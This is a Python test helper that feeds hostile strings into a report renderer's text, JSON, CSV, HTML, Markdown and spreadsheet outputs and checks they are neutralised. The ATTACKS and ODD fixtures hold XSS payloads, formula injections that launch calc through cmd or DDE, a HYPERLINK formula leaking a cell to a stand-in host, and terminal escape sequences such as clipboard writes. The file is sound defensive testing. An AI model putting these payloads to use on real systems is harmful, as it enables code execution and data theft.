"""Texts that attack, and what a reader, a browser, a terminal or a spreadsheet makes of each format.

One mechanism for all outputs: an output is rendered with harmless words and with the attack in every place that a
text from outside can reach. Its structure must not differ, and the attack must be readable in it.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from functools import cache
from html.parser import HTMLParser
from typing import TYPE_CHECKING
from zipfile import ZipFile

from hypothesis import strategies as st
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from tracker.model import Format
from tracker.report.view import visible

if TYPE_CHECKING:
    from tests.report.hostile_views import Output

HARMLESS = "word"
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "end of script": "</script><script>alert(1)//",
    "end of table": "</td></tr></table></details></body><h1>x</h1>",
    "attribute": "\"'><img src=x onerror=alert(1)>",
    "comment": "<!-- --> <![CDATA[ x ]]> <?php ?>",
    "entities": "&lt;b&gt; &amp; &#60;b&#62; &copy",
    "formula": '=HYPERLINK("http://a.example/?"&A1,"click")',
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "number": "0088",
    "bar": r"a | b \| c \\| d || e \ ",
    "code": "`code` ``` fence ``` ~~~ tilde",
    "emphasis": "**bold** __bold__ *it* _it_ ~~gone~~ ~x~ **",
    "link": "[a](javascript:alert(1)) ![i](http://a.example/b.png) <http://a.example> [x]: http://a.example",
    "autolink": "http://a.example www.a.example ftp://a.example me@a.example mailto:me@a.example",
    "mention": "@user @org/team #123 GH-1 org/repo#1 :smile: $x$ $$y$$",
    "heading": "# head",
    "list": "- [ ] item",
    "rule": "---",
    "quote": "> quote",
    "template": "{{ 7 * 7 }} {% raw %} {# x #} ${7*7}",
    "rich": "<r><t>x</t></y></r>",
    "escape of a workbook": "_x0041_ _x000D_",
    "marks": "{+came+} [-went-] [bold]x[/bold]",
    "long": "five words of a text " * 250,
    "long word": "x" * 5000,
    "other scripts": "עברית العربية 日本語 \U0001f600",
    "formula wide": "＝1+1",
    "formula behind blanks": 'x" =1+1',
    "formula of a link": '=DDE("cmd";"/C calc";"x")',
    "address of a script": "javascript:alert(1) data:text/html,<script>alert(1)</script>",
    "end of CDATA": "]]> ]]&gt; --!>",
    "script's own text": "${alert(1)} `x` \\u003cscript> \\x3c/script>",
    "definition": "[x]: javascript:alert(1) 'title' [^1]: note",
    "setext": "=== --- ***",
    "number of a list": "1. one 2) two + three",
    "table": "| a | b | | --- | --- |",
    "markup of a terminal": "[bold]x[/bold] [link=http://a.example]x[/link] [red]",
    "lines": 'quote " comma , semicolon ; bar |',
    "exponent": "1E5",
    "day": "2025-03-04",
    "escapes over each other": "_x005F_x001B_ _x0041_x0042_x0043_",
    "wide": "\U0001f600" * 900,
}
ODD = {
    "colour": "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "C1 control": "\x9b31mred",
    "turned": "abc \u202e cba \u2066 x",
    "no width": "a\u200bb\ufeffc",
    "line ends": "one\r\ntwo\u2028three",
    "nothing": "a\x00b",
    "link of a terminal": "\x1b]8;;http://a.example\x1b\\\\click\x1b]8;;\x1b\\\\",
    "clipboard": "\x1b]52;c;YWJj\x07 \x1bP+q544e\x1b\\\\ \x9d0;x\x9c",
    "carriage return": "one\rtwo",
    "next line": "one\x85two\x0bthree\x0cfour",
    "isolates": "a\u2066b\u2067c\u2068d\u2069e\u202af\u202bg\u202dh\u202ci\u061cj\u200ek\u200fl",
    "tags": "a\U000e0001\U000e0041\U000e007fb\U000e0100c\ufe0fd",
    "ignorable": "a\u00adb\u034fc\u115fd\u3164e\uffa0f\u180eg\u2060h\U0001d173i\U0001bca0j",
    "no characters": "a\ufdd0b\ufffec\uffffd\U0001fffee\U0010fffff",
    "flood": "Z" + "\u0301\u0335\u0489" * 40 + " \u0e01" + "\u0e49" * 40,
}
"""Characters that normalising drops from a release; a file's name and a policy's words may have them."""

HIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u034f\u061c\u115f\u1160\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f"
    "\ufeff\uffa0\ufff9-\ufffb\ufffe\uffff\ud800-\udfff\ufdd0-\ufdef\U000e0000-\U000e0fff]"
)
"""What no format for people may hold but as a picture or number."""

FORMULA = re.compile(r"""[ "\xa0]*[=+\-@＝＋－＠]|[\t\r\n]""")
"""How no cell of a CSV may begin, but for the guard."""


def cells(data: bytes) -> Iterator[tuple[str, str]]:
    """Yield (type, sheet) of a workbook's cells, and look for formulas and links in its parts."""
    with ZipFile(io.BytesIO(data)) as parts:
        assert not any(re.search(b"<hyperlink|<f>|externalLink|<f ", parts.read(name)) for name in parts.namelist())
    for sheet in load_workbook(io.BytesIO(data)):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield cell.data_type, sheet.title


def shown_in_workbook(data: bytes) -> str:
    """Return what the cells of a workbook show, by a reader that takes back Excel's escapes as Excel does."""
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return "\n".join(
        str(cell) for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for cell in row
    )


class Page(HTMLParser):
    """What a browser would make of a page: its elements and attributes, and its visible text."""

    def __init__(self, data: bytes) -> None:
        super().__init__()
        self.elements: list[tuple[str, ...]] = []
        self.text = ""
        self.hidden = 0
        self.feed(data.decode())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, *(name for name, _ in attrs)))
        self.hidden += tag in {"script", "style"}
        for name, value in attrs:
            assert not name.startswith("on")
            if name in {"href", "src"}:
                assert (value or "").startswith(("#", "data:")), (name, value)

    def handle_endtag(self, tag: str) -> None:
        self.elements.append(("/", tag))
        self.hidden -= tag in {"script", "style"}

    def handle_comment(self, data: str) -> None:
        self.elements.append(("comment", str(len(data))))

    def handle_data(self, data: str) -> None:
        if not self.hidden:
            self.text += data


def shown_in_markdown(data: bytes) -> tuple[list[str], str]:
    """Return the structure of a Markdown page, and its text."""
    structure, text = [], ""
    as_signs = {"<strong>": "strong_open", "</strong>": "strong_close", "<del>": "s_open", "</del>": "s_close"}
    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(data.decode()):
        if token.type != "inline":
            structure.append(f"{token.type} {token.content.strip() if token.type == 'html_block' else ''}")
        for child in token.children or ():
            if child.type in {"text", "text_special", "softbreak", "code_inline"}:
                text += child.content
            elif child.type == "html_inline" and child.content == "<br>":
                text += "\n"
            else:
                structure.append(as_signs.get(child.content, child.type))
        text += "\n"
    return structure, text


def structure_and_text(form: Format, data: bytes) -> tuple[object, str]:
    """Return what must not depend on the texts, and the text that a reader sees."""
    if form is Format.TEXT:
        text = data.decode()
        return HIDDEN.findall(text), text
    if form is Format.JSON:
        whole = json.loads(data)
        return shape_of(whole), json.dumps(whole, ensure_ascii=False)
    if form is Format.CSV:
        rows = list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))
        assert not [cell for row in rows for cell in row if FORMULA.match(cell)]
        return [len(row) for row in rows], "\n".join(cell for row in rows for cell in row)
    if form is Format.HTML:
        page = Page(data)
        return page.elements, page.text
    if form is Format.MARKDOWN:
        return shown_in_markdown(data)
    return list(cells(data)), shown_in_workbook(data)


def shape_of(value: object) -> object:
    if isinstance(value, dict):
        return {name: shape_of(one) for name, one in value.items()}
    return [shape_of(one) for one in value] if isinstance(value, list) else type(value)


def squeezed(text: str) -> str:
    return re.sub(r"\s+|\u200b", "", text)


SIGNS = "<>&\"'`=+-@|[](){}*_~#!:;/\\.,$%^\n\r\x1b\u202e\u2028"
PARTS = (*ATTACKS.values(), *ODD.values(), *SIGNS, "://", "www.", "]]>", "-->", "_x0041_", "x")
"""Of what a text that attacks is made."""


def texts() -> st.SearchStrategy[str]:
    """Give texts that attack: pieces of attacks in any order, or any characters, between two letters.

    Letters at the ends, for where a text is parted into words, blanks at its ends change what is marked; the
    attacks by themselves begin and end as they do.
    """
    pieces = st.lists(st.sampled_from([part[:60] for part in PARTS]), min_size=1, max_size=6).map("".join)
    characters = st.text(st.characters(codec="utf-8", exclude_characters="\t"), min_size=1, max_size=20)
    return (pieces | characters).map(lambda text: f"a{text}b")


def check(text: str, form: Format, output: Output) -> None:
    """Hold an output with an attack against the same one with a harmless word."""
    structure, shown = output.read(form, output.render(text, form))
    assert structure == harmless(form, output)
    if form is Format.JSON:
        wanted = json.dumps(text, ensure_ascii=False)[1:-1]
    elif form is Format.CSV or form in output.own:
        wanted = text.encode("utf-8", "backslashreplace").decode()
    else:
        wanted = visible(text)
        assert not HIDDEN.search(shown.replace(_NO_WIDTH, "") if form is Format.MARKDOWN else shown)
    assert squeezed(wanted) in squeezed(shown)


_NO_WIDTH = "\u200b"
"""What parts an address in Markdown, so that nobody makes a link of it: it is the program's own."""


@cache
def harmless(form: Format, output: Output) -> object:
    """Return the structure of an output that nobody attacks."""
    return output.read(form, output.render(HARMLESS, form))[0]
